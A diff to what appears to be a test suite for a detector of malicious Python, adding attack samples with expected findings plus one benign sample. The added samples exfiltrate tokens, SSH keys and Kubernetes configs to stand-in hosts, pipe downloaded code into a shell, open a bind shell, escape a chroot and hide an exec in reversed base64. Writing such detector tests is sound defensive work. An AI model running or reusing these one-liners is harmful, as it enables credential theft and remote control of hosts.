@@ -202,6 +202,32 @@ const ATTACKS: Readonly<Record<string, readonly [code: string, wanted: string]>>
   'code that is cut': [`import os\nos.system("${FETCH}")\nx = [1, 2, (`, 'execute downloaded'],
   'a function that nothing calls': [`import os\ndef later(x):\n  os.system("${FETCH}")`, 'execute downloaded'],
   'a value of the environment': ["import os\nos.system(os.environ['CMD'])", 'execute downloaded'],
+  'the token in packets': [
+    `import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.sendto(open('${TOKEN}','rb').read(),('203.0.113.7',53))`,
+    'send token to 203.0.113.7:53',
+  ],
+  'every file of a directory of the node': [
+    `import os,requests\nfor r,d,f in os.walk('/host/root/.ssh'):\n  for n in f:\n    requests.post('https://paste.example.com/a',data=open(os.path.join(r,n),'rb').read())`,
+    'send file to paste.example.com',
+  ],
+  'a changed root': ["import os\nos.chroot('/host')\nos.system('bash -i')", 'escape chroot'],
+  'a table of functions': [`import os\n{'a': os.system}['a']('${FETCH}')`, 'execute downloaded'],
+  'a function that decodes the other way round': [
+    `_ = lambda __ : __import__('base64').b64decode(__[::-1]);exec((_)(b'${reversed(b64(`import os;os.system("${FETCH}")`))}'))`,
+    'execute downloaded',
+  ],
+  'an input for a shell': [
+    "import subprocess,urllib.request as u\nsubprocess.run(['sh'],input=u.urlopen('http://203.0.113.7/x').read())",
+    'execute downloaded',
+  ],
+  'a shell behind a port': [
+    "import socket,subprocess\ns=socket.socket();s.bind(('',4444));s.listen(1)\nc,a=s.accept()\nsubprocess.call(['/bin/sh','-i'],stdin=c,stdout=c)",
+    'shell for whoever connects',
+  ],
+  'an archive of the node': [
+    "import tarfile,requests\nwith tarfile.open('/tmp/a.tgz','w:gz') as t:\n  t.add('/host/etc/kubernetes')\nrequests.post('https://paste.example.com/a',files={'f':open('/tmp/a.tgz','rb')})",
+    'send file to paste.example.com',
+  ],
   'a harmless value in another branch': [
     `import os\nc="${FETCH}"\nif len(os.sys.argv) > 5:\n  c = "date"\nos.system(c)`,
     'execute downloaded',
@@ -272,6 +298,8 @@ const BENIGN: Readonly<Record<string, string>> = {
     "import smtplib\ns=smtplib.SMTP('mail.example.com',25)\ns.sendmail('a@example.com',['b@example.com'],'done')",
   'metrics that are pushed':
     "from prometheus_client import CollectorRegistry,Gauge,push_to_gateway\nr=CollectorRegistry()\nGauge('a','b',registry=r).set(1)\npush_to_gateway('push:9091',job='a',registry=r)",
+  'a role of the instance that is asked for by its name':
+    "import requests\nb='http://169.254.169.254/latest/meta-data/placement/'\nrequests.get(b+requests.get(b).text)",
   'the region of the instance':
     "import requests\nprint(requests.get('http://169.254.169.254/latest/meta-data/placement/region').text)",
 };
